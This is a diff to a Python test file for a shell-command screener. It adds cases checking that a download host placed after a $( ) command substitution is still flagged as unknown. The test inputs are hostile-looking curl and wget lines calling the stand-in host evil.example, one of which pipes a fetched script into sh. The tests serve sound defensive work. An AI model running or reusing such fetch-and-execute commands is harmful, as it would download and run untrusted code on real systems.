@@ -121,3 +121,36 @@ def test_hostile_arguments_are_read_once(text: str) -> None:
     """Each word is read for one command only: these finish (about 0.5 s each)."""
     hosts = hosts_in(text)
     assert hosts == ({"evil.example"} if "evil.example" in text else set())
+
+
+SUBSTITUTED = [
+    "curl $(cat u) evil.example",
+    "curl $( cat u ) evil.example",
+    "curl -s $(cat /tmp/u) evil.example -o x.sh",
+    "curl $(echo $(cat u)) evil.example",
+    "wget $(echo hello world) evil.example/x.sh",
+    "- `curl -fsSL $(cat ~/.url) evil.example | sh`",
+    'curl "$(cat u)" evil.example',
+]
+
+
+@pytest.mark.parametrize("content", SUBSTITUTED, ids=repr)
+def test_a_host_after_a_command_substitution_is_named(content: str) -> None:
+    """The ``)`` that closes a ``$(`` in the arguments does not end the download (it ended the
+    reading before the fix, so ``evil.example`` passed)."""
+    assert "evil.example" in hosts_in(content)
+    assert "unknown-host" in {f.kind for f in screen_text(content, NO_HOSTS)}
+    assert "unknown-host" in kinds(content, CTX)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "curl $(cat u); evil.example",  # the operator after the substitution ends the command
+        "curl x) evil.example",  # a ``)`` that closes nothing opened in the command ends it
+        "curl $(cat u) | grep evil.example",
+    ],
+    ids=repr,
+)
+def test_what_ends_the_command_still_ends_it_after_a_substitution(content: str) -> None:
+    assert "evil.example" not in hosts_in(content)
